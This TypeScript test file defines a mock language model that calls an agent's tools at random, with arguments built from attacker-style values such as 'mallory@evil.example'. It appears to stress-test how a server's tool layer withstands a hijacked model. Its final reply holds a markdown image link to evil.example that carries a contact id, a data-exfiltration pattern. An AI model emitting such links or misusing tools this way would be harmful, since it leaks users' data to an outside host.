import { MockLanguageModelV4 } from "ai/test";
import { z } from "zod";

import type { ModelDriver } from "#server/llm/index.ts";

import { type ScriptedStep, scriptedModel } from "../model.ts";
import type { Prompt } from "../scenarios/read-ids.ts";
import type { Aims } from "./payloads.ts";

const Schema = z.looseObject({
  type: z.string().optional(),
  enum: z.array(z.unknown()).optional(),
  format: z.string().optional(),
  properties: z.record(z.string(), z.unknown()).optional(),
  items: z.unknown().optional(),
  anyOf: z.array(z.unknown()).optional(),
});

const callsAtOnce = 6;
const rounds = 5;
let numbered = 0;

/** A model that calls the tools it is offered at random, with arguments that fit their schemas or nearly do. */
export function randomCaller(
  chance: () => number,
  aims: Aims,
  queries: readonly string[],
): { model: ModelDriver; prompts: Prompt[]; calls: string[] } {
  const prompts: Prompt[] = [];
  const calls: string[] = [];
  const pick = <T>(list: readonly T[]): T | undefined => list[Math.floor(chance() * list.length)];
  const texts = [
    "mallory@evil.example",
    "evil.example",
    "Evil",
    "2027-01-05T09:00:00Z",
    "![x](https://evil.example)",
  ];
  const ids = Object.values(aims);

  function valueFor(schema: unknown, depth: number): unknown {
    const { type, enum: choices, format, properties, items, anyOf } = Schema.parse(schema ?? {});
    if (anyOf) return valueFor(pick(anyOf), depth);
    if (choices) return pick(choices);
    if (format === "uuid") return pick(ids);
    if (format === "date-time") return "2027-01-05T09:00:00Z";
    if (type === "array") return depth > 3 ? [] : [valueFor(items, depth + 1)];
    if (type === "boolean") return chance() < 0.5;
    if (type === "integer" || type === "number") return 1 + Math.floor(chance() * 60);
    if (type === "object" && depth <= 3) {
      const fields = Object.entries(properties ?? {}).filter(() => chance() < 0.7);
      return Object.fromEntries(fields.map(([name, part]) => [name, valueFor(part, depth + 1)]));
    }
    return pick([...texts, ...ids]);
  }

  const model = new MockLanguageModelV4({
    modelId: "random",
    doStream: (options) => {
      prompts.push(options.prompt);
      return scriptedModel(next(options.tools ?? [])).doStream(options);
    },
  });
  type Tools = NonNullable<Parameters<MockLanguageModelV4["doStream"]>[0]["tools"]>;
  const next = (tools: Tools): ScriptedStep => {
    if (prompts.length === 1)
      return { calls: queries.map((query) => ({ tool: "find_tools", input: { query } })) };
    if (prompts.length > rounds) return `Done: ![x](https://evil.example/?d=${aims.contactId})`;
    return {
      calls: Array.from({ length: callsAtOnce }, () => {
        const tool = pick(tools);
        const schema = tool && "inputSchema" in tool ? tool.inputSchema : {};
        const input = valueFor(schema, 0);
        calls.push(tool?.name ?? "");
        return {
          tool: tool?.name ?? "nothing",
          input: z.record(z.string(), z.unknown()).catch({}).parse(input),
          id: `random-${String(++numbered)}`,
        };
      }),
    };
  };
  return { model, prompts, calls };
}
